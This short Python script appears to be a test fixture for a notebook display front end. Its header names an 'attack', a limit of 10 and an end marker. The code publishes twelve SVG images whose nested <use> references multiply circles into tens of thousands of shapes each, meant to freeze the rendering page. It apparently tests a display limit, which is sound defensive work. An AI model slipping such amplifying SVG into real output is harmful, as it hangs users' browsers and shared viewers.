# attack: pictures of a few lines, each of nearly as many shapes as one may have: together they freeze the page
# limit: 10
# ends: done
from IPython.display import publish_display_data

dots = "".join(f'<circle cx="{n % 40 * 9}" cy="{n // 40 * 9}" r="9" opacity=".5"/>' for n in range(100))
rows = '<use href="#a" x="1"/>' * 36
all_of_it = "".join(f'<use href="#b" x="{n}"/>' for n in range(38))
for n in range(12):
    publish_display_data(
        {
            "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" width="{600 + n}" height="400">'
            f'<defs><g id="a">{dots}</g><g id="b">{rows}</g></defs>{all_of_it}</svg>'
        }
    )
print("done")
